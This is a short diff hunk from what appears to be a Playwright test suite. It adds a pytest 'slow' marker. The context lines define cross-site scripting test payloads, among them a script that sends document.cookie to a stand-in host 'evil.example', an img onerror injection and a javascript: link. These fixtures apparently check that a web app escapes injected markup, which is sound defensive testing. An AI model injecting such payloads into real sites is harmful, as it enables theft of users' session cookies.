@@ -8,6 +8,8 @@ from playwright.sync_api import Page, expect
 from ..server._running import Running
 from ._steps import choose, click_text, go, name_field
 
+pytestmark = pytest.mark.slow
+
 RUN = "window.harmed=1;fetch('https://evil.example/'+document.cookie)"
 SCRIPT = f"<script>{RUN}</script>"
 ROW = """<tr><td title="RUN">&lt;img src=x onerror={0}&gt;<td>{1}<td><a href="javascript:RUN">go {0}</a></tr>"""
